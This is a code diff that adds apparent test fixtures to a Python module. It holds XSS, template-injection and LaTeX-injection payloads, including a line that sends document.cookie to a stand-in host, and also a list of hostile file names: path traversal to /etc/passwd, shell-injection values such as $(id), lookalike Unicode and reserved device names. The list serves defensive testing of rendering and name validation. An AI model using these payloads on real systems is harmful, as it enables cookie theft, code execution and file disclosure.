@@ -101,3 +101,123 @@ def watched() -> Iterator[list[str]]:
         yield _at_watch[-1]
     finally:
         _at_watch.pop()
+
+
+SCRIPTS = ("alert(1)", "fetch('//e.example/'+document.cookie)", "top.location='//e.example'")
+PAYLOADS = tuple(
+    payload.replace("SCRIPT", script)
+    for script in SCRIPTS
+    for payload in (
+        "<script>SCRIPT</script>",
+        "</title></style></script><script>SCRIPT</script>",
+        "<ScRiPt >SCRIPT</ScRiPt >",
+        "<<script>script>SCRIPT<</script>/script>",
+        "<img src=x onerror=SCRIPT>",
+        '"><img src=x onerror=SCRIPT>',
+        "' onmouseover='SCRIPT",
+        '" autofocus onfocus="SCRIPT',
+        "<svg onload=SCRIPT>",
+        "<svg><script xlink:href='data:,SCRIPT'></script></svg>",
+        "</svg><foreignObject><body onload=SCRIPT></foreignObject>",
+        "<iframe srcdoc='<script>SCRIPT</script>'></iframe>",
+        "<object data='javascript:SCRIPT'></object>",
+        "<embed src='javascript:SCRIPT'>",
+        "<form action='javascript:SCRIPT'><input type=submit></form>",
+        "<base href='//e.example/'><a href='x'>SCRIPT</a>",
+        "<meta http-equiv=refresh content='0;url=javascript:SCRIPT'>",
+        "<link rel=stylesheet href='//e.example/SCRIPT'>",
+        "<style>@import '//e.example/SCRIPT';</style>",
+        "[SCRIPT](javascript:SCRIPT)",
+        "![SCRIPT](//e.example/x.png)",
+        "<!--SCRIPT--!><img src=x onerror=SCRIPT>-->",
+        "&lt;script&gt;SCRIPT&lt;/script&gt;",
+        "&#60;script&#62;SCRIPT&#60;/script&#62;",
+        "{{ cycler.__init__.__globals__.os.system('SCRIPT') }}",
+        "{% for x in ().__class__.__base__.__subclasses__() %}SCRIPT{% endfor %}",
+        "\\input{/etc/passwd} \\immediate\\write18{SCRIPT}",
+        "]]><script>SCRIPT</script>",
+        "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-",
+        "<scr\x00ipt>SCRIPT</scr\x00ipt>",
+    )
+)
+"""What a page must show as text: scripts, addresses, templates, commands of LaTeX, as they may be written."""
+
+_OUTSIDE = (
+    "..",
+    ".",
+    "/",
+    "../x",
+    "../../../../etc/passwd",
+    "a/../../x",
+    "/etc/passwd",
+    "//e.example/x",
+    "~",
+    "~root/x",
+)
+_OUTSIDE += ("..\\x", "C:\\x", "C:x", "\\\\e.example\\x", "file:///etc/passwd", "http://e.example/x", "%2e%2e%2fx")
+_OUTSIDE += (
+    "..%c0%afx",
+    "....//x",
+    "..;/x",
+    "a/b",
+    "a\\b",
+    "./x",
+    "x/.",
+    "x/..",
+    "-rf",
+    "--help",
+    "$HOME",
+    "`id`",
+)
+_OUTSIDE += (
+    "$(id)",
+    ";id",
+    "|id",
+    "&id",
+    ">x",
+    "*",
+    "?",
+    "[a]",
+    "{a,b}",
+    "!x",
+    "#x",
+    "a b",
+    " a",
+    "a ",
+    "a\n",
+    "a\r\nb",
+)
+_LOOKS = (
+    "\u2024\u2024/x",
+    "\uff0e\uff0e/x",
+    "a\u2215b",
+    "a\u2044b",
+    "\uff0fx",
+    "\u202egpj.x",
+    "\u200bx",
+    "\ufeffx",
+)
+_LOOKS += ("\u0430rm", "a\u0300", "\U0001f600", "\u2028", "\x7f", "\x1b[2J", "\x00", "a\x00.yaml", "\x08", "\t")
+_RESERVED = tuple(
+    f"{name}{end}" for name in ("CON", "NUL", "aux", "COM1", "lpt9") for end in ("", ".txt", ":", "/x")
+)
+_HIDDEN = (
+    ".git",
+    ".ssh/authorized_keys",
+    "...",
+    ".hidden",
+    "lock",
+    "runs",
+    "tokens",
+    "plan.json",
+    "spec.yaml",
+    "",
+)
+_LONG = (
+    *tuple("a" * length for length in (200, 201, 255, 256, 4096, 100000)),
+    "../" * 3000,
+    "a/" * 2000,
+    "é" * 130,
+)
+NAMES = tuple(dict.fromkeys((*_OUTSIDE, *_LOOKS, *_RESERVED, *_HIDDEN, *_LONG)))
+"""Names that lead out of a folder, look like others, mean something to a shell or a system, or are too long."""
